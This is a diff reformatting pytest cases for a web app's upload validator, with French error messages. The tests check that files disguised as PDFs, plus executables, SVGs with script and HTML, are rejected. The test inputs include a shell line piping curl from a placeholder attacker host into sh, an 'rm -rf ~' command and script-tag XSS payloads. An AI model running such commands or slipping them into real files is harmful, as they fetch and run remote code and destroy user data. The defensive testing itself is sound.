@@ -28,8 +28,16 @@ def test_a_real_pdf_odt_and_png_are_accepted_under_the_type_their_content_shows(
 @pytest.mark.parametrize(
     ("data", "name", "message"),
     [
-        (b"#!/bin/sh\ncurl http://evil.example | sh\n", "guide.pdf", "porte le nom d'un PDF mais son contenu n'en est pas un"),
-        (b"<html><script>alert(1)</script></html>", "guide.pdf", "porte le nom d'un PDF mais son contenu n'en est pas un"),
+        (
+            b"#!/bin/sh\ncurl http://evil.example | sh\n",
+            "guide.pdf",
+            "porte le nom d'un PDF mais son contenu n'en est pas un",
+        ),
+        (
+            b"<html><script>alert(1)</script></html>",
+            "guide.pdf",
+            "porte le nom d'un PDF mais son contenu n'en est pas un",
+        ),
         (b"MZ\x90\x00" + b"\x00" * 64, "setup.exe", "Ce type de fichier n'est pas accepté"),
         (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "logo.svg", "n'est pas accepté"),
         (b"%PDF-1.7\nnot really a pdf", "guide.pdf", "Ce PDF est illisible ou abîmé"),
@@ -102,7 +110,10 @@ def test_a_member_uploads_a_pdf_and_it_is_stored_under_our_own_name(client, memb
 @pytest.mark.parametrize(
     ("upload", "message"),
     [
-        (SimpleUploadedFile("guide.pdf", b"#!/bin/bash\nrm -rf ~\n", content_type="application/pdf"), "son contenu n'en est pas un"),
+        (
+            SimpleUploadedFile("guide.pdf", b"#!/bin/bash\nrm -rf ~\n", content_type="application/pdf"),
+            "son contenu n'en est pas un",
+        ),
         (SimpleUploadedFile("guide.pdf", pdf_bytes(javascript=True), content_type="application/pdf"), "JavaScript"),
         (SimpleUploadedFile("page.html", b"<html></html>", content_type="text/html"), "n'est pas accepté"),
     ],
